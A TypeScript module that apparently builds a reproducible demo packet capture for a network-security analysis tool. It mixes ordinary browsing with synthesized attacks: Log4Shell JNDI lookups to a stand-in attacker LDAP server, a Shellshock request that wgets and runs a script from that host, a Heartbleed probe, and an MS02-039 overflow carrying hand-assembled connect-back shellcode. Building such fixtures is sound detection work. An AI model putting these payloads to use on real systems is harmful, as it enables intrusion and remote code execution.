/**
 * The capture `crashtest demo` analyses: a few minutes of a small network's traffic, made with the
 * product's own packet builders, in which attacks of the kinds the dummies cover (Log4Shell in a
 * User-Agent, Shellshock through a CGI script, a Heartbleed probe, an MS02-039 SQL resolution
 * overflow carrying a connect-back stub) sit among ordinary web browsing and a DNS lookup. Every
 * payload here is written from the protocol specifications; every address is private (RFC 1918)
 * or documentation (RFC 5737) space. The bytes are fixed, so the file is the same on every run.
 */
import { buildPcap, synthesizeTcpExchange, synthesizeUdpExchange, type SynthesizedPeer, type SynthesizedTurn } from '../capture/index.ts';
import { CrashtestError, LinkType, type Frame, type Timestamp } from '../core/index.ts';

/** Who is who in the demo capture (the test and the CLI's legend name them). */
export const DEMO_HOSTS = {
  /** Tomcat applications logging through Log4j 2.14 */
  tomcat: '10.1.0.20',
  tomcatTwin: '10.1.0.21',
  /** Apache running bash CGI scripts */
  apache: '10.1.0.30',
  /** Apache with mod_ssl on OpenSSL 1.0.1 */
  tlsServer: '10.1.0.40',
  /** MSDE 2000 answering SQL resolution requests */
  sqlServer: '10.1.0.50',
  resolver: '10.1.0.53',
  /** ordinary office clients */
  workstations: ['10.1.0.101', '10.1.0.102', '10.1.0.103'],
  /** where the attackers keep their LDAP referral server and their download */
  attackerServer: '198.51.100.10',
  log4shellSender: '198.51.100.23',
  log4shellObfuscatedSender: '203.0.113.45',
  log4shellCopySender: '203.0.113.77',
  shellshockSender: '198.51.100.31',
  heartbleedSender: '203.0.113.99',
  /** sends the overflow and waits on TCP 4444 for the connect-back */
  sqlSender: '198.51.100.66',
} as const;

export const DEMO_CALLBACK_PORT = 4444;
export const DEMO_LDAP_PORT = 1389;

/** What the capture holds, one line each, for a newcomer reading the demo's output. */
export const DEMO_CONTENTS: readonly string[] = [
  'ordinary traffic: web pages from an Apache intranet server and a Tomcat application, a DNS lookup',
  `Log4Shell: a \${jndi:ldap://…} User-Agent to Tomcat, sent by two hosts, and an obfuscated \${\${lower:j}ndi:…} variant`,
  'Shellshock: a function definition in the User-Agent of a request to an Apache CGI script (wget, then sh)',
  'Heartbleed: a TLS heartbeat declaring 16 KiB of payload in a 3-byte record',
  'MS02-039: an overlong SQL Server resolution instance name carrying a connect-back stub',
];

/** 2024-03-04T09:00:00Z: a fixed start keeps the file byte-for-byte reproducible */
const START_SECONDS = 1_709_542_800;

interface Scene {
  /** seconds after the start */
  at: number;
  proto: 'tcp' | 'udp';
  client: SynthesizedPeer;
  server: SynthesizedPeer;
  /** what each side says, in order */
  say: Array<{ from: 'client' | 'server'; data: Buffer }>;
}

export function buildDemoCapture(): Buffer {
  const frames = demoScenes().flatMap(framesOf);
  frames.sort((a, b) => a.seconds - b.seconds || a.nanoseconds - b.nanoseconds);
  return buildPcap(LinkType.ETHERNET, frames.map((frame, index) => ({ ...frame, index })));
}

function demoScenes(): Scene[] {
  const hosts = DEMO_HOSTS;
  const [alice, bob, carol] = hosts.workstations;
  return [
    httpScene(0.0, peer(alice, 51_012), peer(hosts.apache, 80), browse('/', hosts.apache, FIREFOX), apacheReply('200 OK', 'text/html', WELCOME_PAGE)),
    udpScene(1.2, peer(alice, 53_533), peer(hosts.resolver, 53), dnsQuery(0x5c1e, 'www.example.com'), dnsAnswer(0x5c1e, 'www.example.com', '203.0.113.80')),
    httpScene(4.5, peer(hosts.log4shellSender, 40_112), peer(hosts.tomcat, 8080), log4shellRequest(hosts.tomcat, `\${jndi:ldap://${hosts.attackerServer}:${DEMO_LDAP_PORT}/x}`), tomcatReply()),
    httpScene(9.8, peer(bob, 49_870), peer(hosts.tomcat, 8080), browse('/', `${hosts.tomcat}:8080`, EDGE), tomcatReply()),
    httpScene(15.1, peer(hosts.shellshockSender, 38_004), peer(hosts.apache, 80), shellshockRequest(hosts.apache, hosts.attackerServer), apacheReply('200 OK', 'text/plain', 'OK\n')),
    httpScene(21.7, peer(carol, 50_221), peer(hosts.apache, 80), browse('/cgi-bin/status', hosts.apache, FIREFOX), apacheReply('200 OK', 'text/plain', 'OK\n')),
    tcpScene(28.3, peer(hosts.heartbleedSender, 44_390), peer(hosts.tlsServer, 443), [
      { from: 'client', data: clientHello() },
      { from: 'server', data: serverHelloAndDone() },
      { from: 'client', data: heartbleedProbe() },
    ]),
    httpScene(33.0, peer(hosts.log4shellObfuscatedSender, 59_300), peer(hosts.tomcat, 8080), log4shellRequest(hosts.tomcat, `\${\${lower:j}ndi:\${lower:l}\${lower:d}a\${lower:p}://${hosts.attackerServer}:${DEMO_LDAP_PORT}/x}`), tomcatReply()),
    httpScene(38.6, peer(bob, 49_902), peer(hosts.apache, 80), browse('/about.html', hosts.apache, EDGE), apacheReply('200 OK', 'text/html', ABOUT_PAGE)),
    udpScene(44.2, peer(hosts.sqlSender, 1_434), peer(hosts.sqlServer, 1434), slammerStyleRequest(hosts.sqlSender, DEMO_CALLBACK_PORT)),
    // the same payload as the first Log4Shell request, from another host to another server: one detonation answers both
    httpScene(51.9, peer(hosts.log4shellCopySender, 33_718), peer(hosts.tomcatTwin, 8080), log4shellRequest(hosts.tomcatTwin, `\${jndi:ldap://${hosts.attackerServer}:${DEMO_LDAP_PORT}/x}`), tomcatReply()),
  ];
}

/** hosts get distinct locally administered MACs from their addresses, so attribution has something to show */
function peer(ip: string, port: number): SynthesizedPeer {
  const octets = ip.split('.').map((part) => Number(part).toString(16).padStart(2, '0'));
  return { ip, port, mac: `02:00:${octets.join(':')}` };
}

function httpScene(at: number, client: SynthesizedPeer, server: SynthesizedPeer, request: string, response: string): Scene {
  return tcpScene(at, client, server, [
    { from: 'client', data: Buffer.from(request, 'latin1') },
    { from: 'server', data: Buffer.from(response, 'latin1') },
  ]);
}

function tcpScene(at: number, client: SynthesizedPeer, server: SynthesizedPeer, say: Scene['say']): Scene {
  return { at, proto: 'tcp', client, server, say };
}

function udpScene(at: number, client: SynthesizedPeer, server: SynthesizedPeer, request: Buffer, answer?: Buffer): Scene {
  return { at, proto: 'udp', client, server, say: [{ from: 'client', data: request }, ...(answer ? [{ from: 'server' as const, data: answer }] : [])] };
}

function framesOf(scene: Scene): Frame[] {
  // one turn every 4 ms: a LAN round trip and a quick server
  const turns: SynthesizedTurn[] = scene.say.map((turn, index) => ({
    direction: turn.from === 'client' ? 'to_server' : 'to_client',
    data: turn.data,
    time: timeAt(scene.at + index * 0.004),
  }));
  const spec = { client: scene.client, server: scene.server, turns };
  return scene.proto === 'tcp' ? synthesizeTcpExchange(spec) : synthesizeUdpExchange(spec);
}

function timeAt(offsetSeconds: number): Timestamp {
  const micros = Math.round(offsetSeconds * 1e6);
  return { seconds: START_SECONDS + Math.floor(micros / 1e6), nanoseconds: (micros % 1e6) * 1000 };
}

// ---- HTTP (RFC 9112) ----------------------------------------------------------------------------

const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0';
const EDGE = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0';
const WELCOME_PAGE = '<html><head><title>Intranet</title></head><body><h1>Welcome</h1><p><a href="/about.html">About us</a></p></body></html>\n';
const ABOUT_PAGE = '<html><head><title>About</title></head><body><p>Example Ltd, since 1999.</p></body></html>\n';
const TOMCAT_PAGE = '<html><head><title>Orders</title></head><body><form action="login" method="post"><input name="uname"/><input type="password" name="password"/></form></body></html>\n';

function browse(path: string, host: string, userAgent: string): string {
  return (
    `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${userAgent}\r\n` +
    'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.5\r\n' +
    'Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n'
  );
}

/** a scanner's request: the lookup rides in the User-Agent, which the application logs */
function log4shellRequest(host: string, lookup: string): string {
  return `GET / HTTP/1.1\r\nHost: ${host}:8080\r\nUser-Agent: ${lookup}\r\nAccept: */*\r\n\r\n`;
}

/** the function definition bash imports from HTTP_USER_AGENT, and the command after it */
function shellshockRequest(host: string, downloadHost: string): string {
  const command = `/bin/bash -c 'wget http://${downloadHost}/x.sh -O /tmp/x; sh /tmp/x'`;
  return `GET /cgi-bin/status HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: () { :; }; ${command}\r\nAccept: */*\r\nConnection: close\r\n\r\n`;
}

function apacheReply(status: string, type: string, body: string): string {
  return (
    `HTTP/1.1 ${status}\r\nDate: Mon, 04 Mar 2024 09:00:00 GMT\r\nServer: Apache/2.2.22 (Debian)\r\n` +
    `Content-Length: ${Buffer.byteLength(body)}\r\nContent-Type: ${type}\r\n\r\n${body}`
  );
}

function tomcatReply(): string {
  return (
    'HTTP/1.1 200 OK\r\nServer: Apache-Coyote/1.1\r\nContent-Type: text/html;charset=UTF-8\r\n' +
    `Content-Length: ${Buffer.byteLength(TOMCAT_PAGE)}\r\nDate: Mon, 04 Mar 2024 09:00:00 GMT\r\n\r\n${TOMCAT_PAGE}`
  );
}

// ---- DNS (RFC 1035) -----------------------------------------------------------------------------

function dnsName(name: string): Buffer {
  return Buffer.concat([...name.split('.').map((label) => Buffer.concat([Buffer.of(label.length), Buffer.from(label, 'ascii')])), Buffer.of(0)]);
}

function dnsHeader(id: number, flags: number, answers: number): Buffer {
  const header = Buffer.alloc(12);
  header.writeUInt16BE(id, 0);
  header.writeUInt16BE(flags, 2);
  header.writeUInt16BE(1, 4); // one question
  header.writeUInt16BE(answers, 6);
  return header;
}

const QUESTION_A_IN = Buffer.of(0x00, 0x01, 0x00, 0x01);

function dnsQuery(id: number, name: string): Buffer {
  return Buffer.concat([dnsHeader(id, 0x0100, 0), dnsName(name), QUESTION_A_IN]); // RD
}

function dnsAnswer(id: number, name: string, address: string): Buffer {
  const record = Buffer.alloc(16);
  record.writeUInt16BE(0xc00c, 0); // the name: a pointer to the question's
  QUESTION_A_IN.copy(record, 2);
  record.writeUInt32BE(300, 6); // TTL, seconds
  record.writeUInt16BE(4, 10);
  address.split('.').forEach((octet, index) => record.writeUInt8(Number(octet), 12 + index));
  return Buffer.concat([dnsHeader(id, 0x8180, 1), dnsName(name), QUESTION_A_IN, record]); // QR RD RA
}

// ---- TLS (RFC 5246) and heartbeats (RFC 6520) ---------------------------------------------------

const TLS11 = 0x0302;

function tlsRecord(type: number, body: Buffer, declaredLength = body.length): Buffer {
  const header = Buffer.alloc(5);
  header.writeUInt8(type, 0);
  header.writeUInt16BE(TLS11, 1);
  header.writeUInt16BE(declaredLength, 3);
  return Buffer.concat([header, body]);
}

function handshakeMessage(type: number, body: Buffer): Buffer {
  const header = Buffer.alloc(4);
  header.writeUInt32BE(body.length, 0);
  header.writeUInt8(type, 0);
  return Buffer.concat([header, body]);
}

function fixedRandom(seed: number): Buffer {
  return Buffer.from(Array.from({ length: 32 }, (_, index) => (seed * 31 + index * 17) & 0xff));
}

/** TLS 1.1, three RSA suites, and the heartbeat extension (peer_allowed_to_send) the probe needs */
function clientHello(): Buffer {
  const suites = [0x0035, 0x002f, 0x000a];
  const suiteBytes = Buffer.alloc(2 + suites.length * 2);
  suiteBytes.writeUInt16BE(suites.length * 2, 0);
  suites.forEach((suite, index) => suiteBytes.writeUInt16BE(suite, 2 + index * 2));
  const heartbeatExtension = Buffer.of(0x00, 0x0f, 0x00, 0x01, 0x01);
  const body = Buffer.concat([
    Buffer.of(TLS11 >> 8, TLS11 & 0xff),
    fixedRandom(7),
    Buffer.of(0x00), // no session id
    suiteBytes,
    Buffer.of(0x01, 0x00), // null compression only
    Buffer.of(0x00, heartbeatExtension.length),
    heartbeatExtension,
  ]);
  return tlsRecord(22, handshakeMessage(1, body));
}

function serverHelloAndDone(): Buffer {
  const hello = Buffer.concat([
    Buffer.of(TLS11 >> 8, TLS11 & 0xff),
    fixedRandom(11),
    Buffer.of(0x00), // no session id
    Buffer.of(0x00, 0x35, 0x00), // AES256-SHA, null compression
    Buffer.of(0x00, 0x05, 0x00, 0x0f, 0x00, 0x01, 0x01), // heartbeat extension
  ]);
  return tlsRecord(22, Buffer.concat([handshakeMessage(2, hello), handshakeMessage(14, Buffer.alloc(0))]));
}

/** a heartbeat request of three bytes that declares 16 KiB of payload: the server's memory answers for the rest */
function heartbleedProbe(): Buffer {
  return tlsRecord(24, Buffer.of(0x01, 0x40, 0x00));
}

// ---- SQL Server Resolution Protocol ([MC-SQLR]) and MS02-039 -------------------------------------

/**
 * A CLNT_UCAST_INST request (0x04) whose instance name is far longer than the 16 characters a name
 * may have: filler up to the saved return address, a return address into the sled, then an x86 stub
 * that finds Winsock through the LoadLibraryA and GetProcAddress pointers in sqlsort.dll's import
 * table (loaded at 0x42AE0000 by every unpatched SQL Server 2000) and connects back to the sender.
 * It holds no NUL byte: the service copies the name as a C string.
 */
function slammerStyleRequest(callbackAddress: string, callbackPort: number): Buffer {
  const filler = Buffer.alloc(96, 0x90);
  const returnAddress = Buffer.of(0x61, 0x61, 0xae, 0x42); // somewhere in sqlsort.dll that jumps to esp
  const sled = Buffer.alloc(16, 0x90);
  return Buffer.concat([Buffer.of(0x04), filler, returnAddress, sled, connectBackStub(callbackAddress, callbackPort)]);
}

const LOAD_LIBRARY_A_SLOT = [0x18, 0x10, 0xae, 0x42]; // sqlsort.dll IAT, 0x42AE1018
const GET_PROC_ADDRESS_SLOT = [0x10, 0x10, 0xae, 0x42]; // sqlsort.dll IAT, 0x42AE1010

/**
 * Hand-assembled x86 (32-bit): LoadLibraryA("ws2_32.dll"), socket(AF_INET, SOCK_STREAM, TCP),
 * connect to the sender, then ExitThread. A real first stage would read its next stage from the
 * socket; the connection alone is what gives it away.
 */
function connectBackStub(address: string, port: number): Buffer {
  const ascii = (text: string): number[] => [...Buffer.from(text, 'latin1')];
  const ip = address.split('.').map(Number);
  if (ip.includes(0) || (port & 0xff) === 0 || port >> 8 === 0) throw new CrashtestError('CT_ERR_INVALID_ARGUMENT', `the connect-back stub must hold no NUL byte, got ${address}:${port}`);
  return Buffer.from([
    0x68, ...ascii('llXX'), //          push "llXX"
    0x31, 0xdb, //                      xor ebx, ebx
    0x88, 0x5c, 0x24, 0x02, //          mov [esp+2], bl              ; "ll\0X"
    0x68, ...ascii('32.d'), //          push "32.d"
    0x68, ...ascii('ws2_'), //          push "ws2_"
    0x54, //                            push esp
    0xff, 0x15, ...LOAD_LIBRARY_A_SLOT, // call [LoadLibraryA]
    0x89, 0xc6, //                      mov esi, eax                 ; ws2_32.dll
    0x68, ...ascii('etXX'), //          push "etXX"
    0x66, 0x89, 0x5c, 0x24, 0x02, //    mov [esp+2], bx              ; "et\0\0"
    0x68, ...ascii('sock'), //          push "sock"
    0x54, //                            push esp
    0x56, //                            push esi
    0xff, 0x15, ...GET_PROC_ADDRESS_SLOT, // call [GetProcAddress]
    0x6a, 0x06, //                      push IPPROTO_TCP
    0x6a, 0x01, //                      push SOCK_STREAM
    0x6a, 0x02, //                      push AF_INET
    0xff, 0xd0, //                      call eax                     ; socket
    0x89, 0xc7, //                      mov edi, eax
    0x68, ...ascii('ectX'), //          push "ectX"
    0x88, 0x5c, 0x24, 0x03, //          mov [esp+3], bl              ; "ect\0"
    0x68, ...ascii('conn'), //          push "conn"
    0x54, //                            push esp
    0x56, //                            push esi
    0xff, 0x15, ...GET_PROC_ADDRESS_SLOT, // call [GetProcAddress]
    0x53, //                            push ebx
    0x53, //                            push ebx                     ; sin_zero
    0x68, ...ip, //                     push sin_addr
    0x68, 0x02, 0x01, port >> 8, port & 0xff, // push AF_INET | 0x0100 | htons(port) << 16
    0x88, 0x5c, 0x24, 0x01, //          mov [esp+1], bl              ; sin_family = 2
    0x89, 0xe1, //                      mov ecx, esp
    0x6a, 0x10, //                      push sizeof(sockaddr_in)
    0x51, //                            push ecx
    0x57, //                            push edi
    0xff, 0xd0, //                      call eax                     ; connect
    0x53, //                            push ebx
    0x68, ...ascii('el32'), //          push "el32"
    0x68, ...ascii('kern'), //          push "kern"
    0x54, //                            push esp
    0xff, 0x15, ...LOAD_LIBRARY_A_SLOT, // call [LoadLibraryA]        ; kernel32.dll
    0x68, ...ascii('adXX'), //          push "adXX"
    0x66, 0x89, 0x5c, 0x24, 0x02, //    mov [esp+2], bx              ; "ad\0\0"
    0x68, ...ascii('Thre'), //          push "Thre"
    0x68, ...ascii('Exit'), //          push "Exit"
    0x54, //                            push esp
    0x50, //                            push eax
    0xff, 0x15, ...GET_PROC_ADDRESS_SLOT, // call [GetProcAddress]
    0x53, //                            push ebx
    0xff, 0xd0, //                      call eax                     ; ExitThread(0): the service thread ends quietly
  ]);
}
